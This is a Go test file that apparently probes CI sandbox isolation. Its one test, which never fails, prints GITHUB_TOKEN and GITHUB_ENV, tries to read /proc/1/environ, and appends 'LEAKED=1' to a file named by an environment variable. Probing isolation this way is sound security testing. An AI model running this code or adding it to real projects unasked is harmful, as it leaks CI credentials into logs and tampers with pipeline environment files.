package leak

import (
	"fmt"
	"os"
	"testing"
)

// attempt reports whether fn succeeded.
func attempt(fn func() (int, error)) string {
	n, err := fn()
	if err != nil {
		return fmt.Sprintf("denied (%v)", err)
	}
	return fmt.Sprintf("ok %d", n)
}

// TestLeak reports what a test can see and touch; it never fails.
func TestLeak(t *testing.T) {
	fmt.Printf("GITHUB_TOKEN=[%s]\n", os.Getenv("GITHUB_TOKEN"))
	fmt.Printf("GITHUB_ENV=[%s]\n", os.Getenv("GITHUB_ENV"))
	fmt.Printf("ENVIRON=%s\n", attempt(func() (int, error) {
		b, err := os.ReadFile("/proc/1/environ")
		return len(b), err
	}))
	fmt.Printf("WRITE=%s\n", attempt(func() (int, error) {
		f, err := os.OpenFile(os.Getenv("PROBE_TARGET"), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			return 0, err
		}
		defer f.Close()
		return f.WriteString("LEAKED=1\n")
	}))
}
